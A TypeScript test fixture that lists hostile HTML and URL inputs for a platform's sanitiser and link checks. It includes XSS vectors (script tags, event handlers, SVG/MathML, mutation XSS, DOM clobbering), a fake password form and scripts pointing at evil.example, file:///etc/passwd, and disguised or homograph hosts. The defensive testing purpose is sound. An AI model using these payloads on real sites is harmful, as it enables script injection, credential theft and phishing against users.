/**
 * What an author of platform content might try. Whatever runs calls `canary()`; whatever loads,
 * loads from `outside`.
 */
export const outside = 'evil.example'

const scripts = [
  '<script>canary()</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>canary()</scr</script>ipt>',
  '<script type="module">import "https://evil.example/x.js"</script>',
  '<noscript><p title="</noscript><img src=x onerror=canary()>"></noscript>',
  '<template><script>canary()</script></template>',
]

const handlers = [
  '<img src=x onerror=canary()>',
  '<img src=x OnErRoR  =  "canary()">',
  '<img/src=x/onerror=canary()>',
  '<p onclick="canary()" onpointerenter="canary()">x</p>',
  '<details open ontoggle=canary()><summary>x</summary>y</details>',
  '<a href="/m/help" onfocus=canary() autofocus>x</a>',
  '<p onanimationstart=canary() style="animation: run 1s">x</p>',
  '<video src="https://evil.example/v.mp4" onloadstart=canary() autoplay></video>',
  '<audio controls><source src=x onerror=canary()></audio>',
  '<body onload=canary()>x</body>',
]

const foreign = [
  '<svg onload=canary()><circle r="9"/></svg>',
  '<svg><script>canary()</script></svg>',
  '<svg><a xlink:href="javascript:canary()"><text y="9">x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:canary() /><a id=x><text>x</text></a></svg>',
  '<svg><use href="https://evil.example/s.svg#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>canary()</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:canary()">x</math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:canary()">x</maction></math>',
]

/** Harmless when parsed once, harmful when serialised and parsed again. */
const mutating = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=canary()>">',
  '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=canary()>"></style></h1>',
  '<svg></p><style><a id="</style><img src=x onerror=canary()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=canary()>',
  '<p id="--><img src=x onerror=canary()>"><!-- </p>',
  '<xmp><p title="</xmp><img src=x onerror=canary()>"></xmp>',
  '<listing>&lt;img onerror="canary()" src=x&gt;</listing>',
  '<select><noscript></select><p title="</noscript><img src=x onerror=canary()>">',
  `${'<b>'.repeat(600)}<img src=x onerror=canary()>`,
]

const lookOfThePage = [
  '<style>body { display: none }</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<p style="position:fixed;inset:0;z-index:99;background:url(https://evil.example/p.png)">Sign in again</p>',
  '<p style="font-size:9000rem;width:expression(canary())">x</p>',
  '<p class="overlay" hidden tabindex="0" role="dialog" aria-modal="true" contenteditable>x</p>',
  '<dialog open>Your session is over</dialog>',
  '<p popover id="p">x</p><button popovertarget="p">y</button>',
  '<marquee onstart=canary()>x</marquee>',
]

const frames = [
  '<form action="https://evil.example/take"><input name="password" autocomplete="current-password"><button>Go</button></form>',
  '<input type="image" src="https://evil.example/i.png" formaction="javascript:canary()">',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
  '<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
  '<base href="https://evil.example/"><a href="m/help">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<portal src="https://evil.example/"></portal><fencedframe></fencedframe>',
  '<link rel="prefetch" href="https://evil.example/"><link rel="dns-prefetch" href="//evil.example">',
]

const clobbering = [
  '<p id="root" name="root">x</p><img name="body" src="/cdn/x.png">',
  '<form id="document"><input id="attributes" name="cookie"></form>',
  '<a id="merchant"></a><a id="merchant" name="textContent" href="/m/help">x</a>',
  '<img name="currentScript" src="/cdn/x.png"><img id="__proto__" src="/cdn/x.png">',
  '<p data-node-id="1" data-font-size="9" data-stale data-offline>x</p>',
]

const links = [
  '<a href="javascript:canary()">x</a>',
  '<a href="  JaVaScRiPt:canary()">x</a>',
  '<a href="java\tscript:canary()">x</a>',
  '<a href="java&#10;script&colon;canary()">x</a>',
  '<a href="&#x6A;avascript:canary()">x</a>',
  '<a href="javascript&#x3A;canary()">x</a>',
  '<a href="\u0001javascript:canary()">x</a>',
  '<a href="ht\ntps://evil.example/">x</a>',
  '<a href="\u0001https://evil.example/">x</a>',
  '<a href="vbscript:canary()">x</a>',
  '<a href="data:text/html,<script>canary()</script>">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="/\t/evil.example/">x</a>',
  '<a href="\\\\evil.example\\">x</a>',
  '<a href="https://evil.example/a.apk" download>x</a>',
  '<a href="/m/help" target="_top" ping="https://evil.example/p" rel="opener">x</a>',
  '<a href="intent://evil.example#Intent;scheme=https;end">x</a>',
  '<map name="m"><area href="javascript:canary()" coords="0,0,9,9"></map><img usemap="#m" src="/cdn/x.png">',
]

const pictures = [
  '<img src="javascript:canary()">',
  '<img src="data:image/svg+xml,<svg onload=canary()>">',
  '<img src="//evil.example/p.png">',
  '<img src="/cdn/x.png" srcset="https://evil.example/p.png 2x" lowsrc="https://evil.example/p.png">',
  '<picture><source srcset="https://evil.example/p.png"><img src="/cdn/x.png"></picture>',
  '<table background="https://evil.example/p.png"><tr><td background="//evil.example/p.png">x</td></tr></table>',
  '<video poster="https://evil.example/p.png"></video>',
]

export const hostileHtml: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreign,
  ...mutating,
  ...lookOfThePage,
  ...frames,
  ...clobbering,
  ...links,
  ...pictures,
]

/** Addresses that no link of the platform may lead to, not even after asking the player. */
export const forbiddenAddresses: readonly string[] = [
  'javascript:canary()',
  ' JaVaScRiPt:canary()',
  'java\nscript:canary()',
  '\u0000javascript:canary()',
  'vbscript:canary()',
  'data:text/html,<script>canary()</script>',
  'blob:https://mela.example/1',
  'filesystem:https://mela.example/temporary/x',
  'view-source:https://evil.example/',
  'intent://evil.example#Intent;scheme=https;end',
  'file:///etc/passwd',
  'about:blank',
  'ftp://evil.example/',
  'ws://evil.example/',
  'http://evil.example/',
  'http://partner.example/',
  'http://mela.example/m/home',
  '//evil.example/',
  '///evil.example/',
  '\\\\evil.example/',
  '/\\evil.example/',
  '\\/evil.example/',
  '/..//evil.example/',
  '/m/..//evil.example/',
  '/.//evil.example/',
  'https://mela.example//evil.example/',
  'https://mela.example\\@evil.example/',
  'https://mela.example@evil.example/',
  'https://user:pass@partner.example/',
  'https://partner.example:secret@evil.example/',
  '/\t/evil.example/',
  'https:evil.example',
  'https:/evil.example',
  'https://',
  'https://evil\u202e.example/',
  'https://evil example/',
  'https://[::1',
]

/**
 * Addresses that imitate ours or a partner's: the question names the host that they really lead to.
 */
export const disguised: readonly (readonly [address: string, host: string])[] = [
  ['https://mela.example.evil.example/', 'mela.example.evil.example'],
  ['https://partner.example.evil.example/m/home', 'partner.example.evil.example'],
  ['https://evil.example/https://mela.example/', 'evil.example'],
  ['https://evil.example?partner.example/', 'evil.example'],
  ['https://evil.example#partner.example/', 'evil.example'],
  ['https://evil.example;partner.example/'.replace(';', '/;'), 'evil.example'],
  ['https://partner.example:8443/', 'partner.example:8443'],
  ['https://partner.example./', 'partner.example.'],
  ['https://mela.example:444/', 'mela.example:444'],
  // A Cyrillic letter, full-width letters, a zero-width space, a full stop of another script.
  ['https://m\u0435la.example/', 'xn--mla-rdd.example'],
  ['https://\uff45\uff56\uff49\uff4c.example/', 'evil.example'],
  ['https://ev\u200bil.example/', 'evil.example'],
  ['https://evil\u3002example/', 'evil.example'],
  ['https://0x7f.1/', '127.0.0.1'],
  ['HTTPS:\n//evil.example/', 'evil.example'],
  ['ht\ntps://evil.example/', 'evil.example'],
  ['\u0001https://evil.example/', 'evil.example'],
]

/** These look like something else, but stay on our site. */
export const oursAfterAll: readonly string[] = [
  'java\u200bscript:canary()',
  '\uff4aavascript:canary()',
  '\uff0f\uff0fevil.example/',
  'evil.example',
  '@evil.example',
  '/m/help?next=https://evil.example/',
]
